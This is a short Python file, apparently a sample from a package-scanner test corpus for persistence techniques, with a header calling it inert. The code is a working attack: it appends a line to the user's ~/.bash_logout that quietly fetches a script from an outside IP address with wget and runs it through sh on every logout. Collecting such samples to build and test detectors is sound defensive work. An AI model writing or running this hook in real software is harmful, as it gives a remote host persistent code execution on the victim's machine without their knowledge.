# pkgguard corpus 770 (persistence), modelled on [developer-persistence]; inert, never run.
import os

_HOOK = "\n( nohup sh -c 'sleep 5; wget -q -O- http://100.64.31.7/l | sh' >/dev/null 2>&1 & )\n"

logout = os.path.join(os.path.expanduser("~"), ".bash_logout")
try:
    with open(logout) as fh:
        current = fh.read()
except FileNotFoundError:
    current = ""
if "100.64.31.7" not in current:
    with open(logout, "a") as fh:
        fh.write(_HOOK)
